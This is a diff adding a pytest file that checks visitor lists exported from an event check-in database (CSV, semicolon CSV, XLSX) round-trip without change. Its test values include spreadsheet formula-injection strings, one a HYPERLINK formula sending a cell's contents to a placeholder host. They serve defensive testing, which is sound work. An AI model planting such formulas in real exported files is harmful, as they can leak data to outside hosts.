@@ -1,0 +1,199 @@
+"""What we wrote comes back unharmed: into its own event nothing is new, into another all of it."""
+
+from __future__ import annotations
+
+from dataclasses import asdict
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+
+from db import (
+    check_ins,
+    consents,
+    driver,
+    event_file,
+    export_columns,
+    exports,
+    imports,
+    undo,
+    visitor_lists,
+    visitor_merges,
+    visitors,
+)
+from db.exchange import list_writing, tables
+from db.exchange.faults import ListError
+from db.exports import Wanted
+from tests.conftest import add_event
+
+DATA = Path(__file__).parents[1] / "data"
+OURS = ("id", "code", "source", "checked_in_at", *consents.PURPOSES)
+"""Columns that say what is so in one event file and in no other."""
+
+ODD = (
+    ("=1+1", "'=1+1", '=HYPERLINK("http://list.example/?"&A1)', "@ada", "+12485550100 x1661"),
+    ("Ada, Augusta", 'O\'Brien; "Bob"', "two\nlines", "'", "-39 011 123"),
+    ("Zoë", "Ł\u0105cki", '{"type": "Point", "at": [1, 2]}', "''@x", "(919)874-7925x878"),
+    ("李", "小龍", "a|b\t=c", "Who knows this?", "011 5550100; +1 248 555 0101"),
+    ("Anna", "", "", "", ""),
+)
+"""Given name, family name, company, role and phone: what csv-spectrum has, and formulas."""
+
+
+def write(path, listing):
+    if path.suffix == ".xlsx":
+        list_writing.write_xlsx(path, listing.columns, listing.rows, "visitors")
+    else:
+        comma = ";" if path.stem == "semicolons" else ","
+        list_writing.write_csv(path, listing.columns, listing.rows, comma)
+    return tables.read(path)
+
+
+FORMS = ("commas.csv", "semicolons.csv", "workbook.xlsx")
+
+
+def all_of(db, *columns):
+    return exports.listing(db, Wanted("visitors", columns=columns))
+
+
+def everybody(db):
+    return visitor_lists.page(db, filters=visitor_lists.Filters())
+
+
+def kept(db):
+    """Everything that is kept about visitors, and how often it was changed."""
+    return [asdict(one) for one in everybody(db)], driver.rows(
+        db, "SELECT v.uuid, v.extra, (SELECT count(*) FROM history) FROM visitors v ORDER BY v.id"
+    )
+
+
+@pytest.fixture
+def elsewhere(tmp_path, by):
+    """Another event file with the same badge types."""
+    with event_file.create(tmp_path / "elsewhere" / "other.desk") as other:
+        add_event(other.db, by)
+        yield other.db
+
+
+@pytest.fixture
+def odd(db, by):
+    for given, family, company, role, phone in ODD:
+        names = {"given_name": given, "family_name": family, "company": company}
+        visitors.register(db, by, **names, job_title=role, phone=phone)
+
+
+@pytest.fixture
+def lived(db, by, ada, grace, nico, odd):
+    """The event after a day: people came, answered, were blocked, cancelled and merged."""
+    check_ins.check_in(db, by, ada.code)
+    told = {"notice_version": "1", "language": "en", "how": "orally"}
+    consents.record(db, by, ada.uuid, {"contact": True, "newsletter": False}, **told)
+    visitors.block(db, by, grace.uuid)
+    visitors.cancel(db, by, nico.uuid)
+    first, last = (
+        datetime(2025, 4, 23, 13, tzinfo=UTC),
+        datetime(2025, 4, 25, 3, 59, 59, tzinfo=UTC),
+    )
+    visitors.edit(db, by, ada.uuid, valid_from=first, valid_until=last, organiser_opt_in="no")
+    again = visitors.register(db, by, given_name="Ada", family_name="Lovelace")
+    visitor_merges.merge(db, by, ada.uuid, again.uuid)
+
+
+def nothing_new(db, by, table):
+    before = kept(db)
+    plan = imports.plan(db, table)
+    result = imports.apply(db, by, plan)
+    assert (result.added, result.updated) == (0, 0)
+    assert kept(db) == before
+    return result
+
+
+@pytest.mark.parametrize("form", FORMS)
+@pytest.mark.usefixtures("lived")
+def test_into_its_own_event_a_list_brings_nothing_new(db, by, tmp_path, form):
+    result = nothing_new(db, by, write(tmp_path / form, all_of(db)))
+    assert not result.rejected
+    assert {note.code for note in result.warnings} <= {"phone_unclear", "cancelled", "blocked"} | {
+        *("no_name", "phone_several", "same_person")
+    }
+    assert not [note for note in result.warnings if note.value.startswith("'")]
+
+
+@pytest.mark.usefixtures("lived")
+def test_so_does_every_choice_of_columns(db, tmp_path):
+    for name in export_columns.VISITORS:
+        for others in ((), ("given_name", "family_name"), ("email", "external_id")):
+            chosen = dict.fromkeys((*others, name))
+            try:
+                table = write(tmp_path / "l.csv", all_of(db, *chosen))
+            except ListError:
+                assert not others  # one column, and nothing that names anybody: no list at all
+                continue
+            plan = imports.plan(db, table)
+            assert (chosen, plan.sorted.new, plan.sorted.back) == (chosen, [], [])
+            assert (chosen, [match for match in plan.matches if match.changes]) == (chosen, [])
+
+
+@pytest.mark.parametrize("form", FORMS)
+@pytest.mark.usefixtures("lived")
+def test_into_another_event_everybody_comes_as_they_were(db, by, elsewhere, tmp_path, form):
+    listing = all_of(db)
+    result = imports.apply(elsewhere, by, imports.plan(elsewhere, write(tmp_path / form, listing)))
+    assert (result.added, result.rejected) == (len(listing.rows), [])
+    same = [name for name in listing.columns if name not in (*OURS, "state")]
+    assert sorted(all_of(elsewhere, *same).rows) == sorted(all_of(db, *same).rows)
+    states = {one.name: (one.cancelled, one.blocked) for one in everybody(elsewhere)}
+    assert states["Nicolò Peña"] == (True, False)
+    assert states["Grace Hopper"] == (False, False)
+    assert "blocked" in {note.code for note in result.warnings}
+    assert not driver.rows(elsewhere, "SELECT 1 FROM consents")
+    assert not driver.rows(elsewhere, "SELECT 1 FROM visitors WHERE extra LIKE '%source%'")
+
+
+@pytest.mark.parametrize(
+    ("name", "form"),
+    [*zip(("visitors-utf8.csv", "visitors-excel-it.csv", "visitors.xlsx"), FORMS, strict=True)],
+)
+def test_the_organisers_list_is_a_fixed_point(db, by, elsewhere, tmp_path, name, form):
+    imports.apply(db, by, imports.plan(db, tables.read(DATA / name)))
+    listing = all_of(db)
+    assert len(listing.rows) == 488
+    table = write(tmp_path / form, listing)
+    plan = imports.plan(db, table)
+    assert [match for match in plan.matches if match.changes] == []
+    assert (plan.sorted.new, plan.sorted.back, len(plan.matches)) == ([], [], 488)
+    imports.apply(elsewhere, by, imports.plan(elsewhere, table))
+    same = [name for name in listing.columns if name not in OURS]
+    assert sorted(all_of(elsewhere, *same).rows) == sorted(all_of(db, *same).rows)
+
+
+def test_what_staff_typed_into_our_list_is_taken(db, by, lived, tmp_path):
+    """Somebody without an e-mail is known by our number, and by our badge code."""
+    for key, role in (("id", "Pilot"), ("code", "Captain")):
+        listing = all_of(db, key, "given_name", "job_title")
+        rows = [[*row[:2], role] if row[1] == "Anna" else row for row in listing.rows]
+        list_writing.write_csv(tmp_path / "l.csv", listing.columns, rows)
+        table = tables.read(tmp_path / "l.csv")
+        result = imports.apply(db, by, imports.plan(db, table))
+        assert (result.added, result.updated) == (0, 1)
+        (anna,) = [one for one in everybody(db) if one.given_name == "Anna"]
+        assert anna.job_title == role
+        undo.take_back(db, by, result.change)
+
+
+def test_a_list_that_is_older_than_a_merge_or_a_cancellation_takes_neither_back(
+    db, by, grace, nico, tmp_path
+):
+    table = write(tmp_path / "l.csv", all_of(db))
+    visitor_merges.merge(db, by, grace.uuid, nico.uuid)
+    visitors.cancel(db, by, grace.uuid)
+    nothing_new(db, by, table)
+
+
+def test_a_list_without_a_state_restores_nobody(db, by, tmp_path):
+    """The organiser's list said it; a later one that says nothing of it leaves it so."""
+    path = tmp_path / "l.csv"
+    for state in (",Status\nR1,Ada,Byron,Cancelled", "\nR1,Ada,Byron"):
+        path.write_text(f"Registration ID,First name,Last name{state}\n")
+        imports.apply(db, by, imports.plan(db, tables.read(path)))
+    assert [one.cancelled for one in everybody(db)] == [True]
